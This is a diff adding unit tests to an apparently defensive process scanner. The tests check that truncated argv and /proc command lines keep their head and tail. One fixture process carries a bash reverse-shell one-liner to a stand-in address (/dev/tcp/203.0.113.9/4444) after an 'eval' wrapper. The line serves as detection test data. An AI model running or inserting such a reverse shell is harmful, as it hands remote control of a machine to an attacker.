@@ -143,3 +143,37 @@ describe('names as Defend gives them', () => {
     expect(memfdNameOf(null)).toBeNull();
   });
 });
+
+describe('a cut argv keeps its head and its end', () => {
+  it('decodes head and tail around the cut, marking where the middle went', async () => {
+    const { decodeHeadAndTail } = await import('../../src/process/process-image.js');
+    const whole = Buffer.from('bash\0-c\0eval "$2"\0_\0PADPADPADPADPAD\0MORE\0payload here\0');
+    // Keep "bash\0-c\0eval" (head) and "AD\0MORE\0payload here\0" (tail).
+    const head = whole.subarray(0, 12);
+    const tail = whole.subarray(whole.length - 21);
+    const decoded = decodeHeadAndTail(Buffer.concat([head, tail]), head.length);
+    expect(decoded.args).toEqual(['bash', '-c', 'eval', 'AD', 'MORE', 'payload here']);
+    expect(decoded.cutAt).toBe(3);
+  });
+
+  it('the /proc scanner keeps the same head and end and counts every argument', async () => {
+    const { FixtureProcFs } = await import('../../src/process/procfs.js');
+    const { makeProcTree, removeTree, writeProcess } = await import('./proc-tree.js');
+    const root = makeProcTree();
+    try {
+      const pad = 'p'.repeat(400);
+      writeProcess(root, { pid: 9, ppid: 1, comm: 'bash', argv: ['bash', '-c', 'eval "$2"', '_', pad, pad, 'bash -i >& /dev/tcp/203.0.113.9/4444 0>&1'], startTicks: 1 });
+      const snapshot = new FixtureProcFs(root, { cmdlineMaxBytes: 512, cmdlineTailBytes: 100 }).snapshot(9)!;
+      expect(snapshot.cmdline!.length).toBe(512);
+      expect(snapshot).toMatchObject({ cmdlineTruncated: true, cmdlineTailOffset: 412, argsTotal: 7 });
+      const { imageFromSnapshot } = await import('../../src/process/process-image.js');
+      const image = imageFromSnapshot(snapshot);
+      expect(image.args!.at(-1)).toBe('bash -i >& /dev/tcp/203.0.113.9/4444 0>&1');
+      expect(image.args!.slice(0, 3)).toEqual(['bash', '-c', 'eval "$2"']);
+      expect(image.argsCount).toBe(7);
+      expect(image.argsCutAt).toBe(5);
+    } finally {
+      removeTree(root);
+    }
+  });
+});
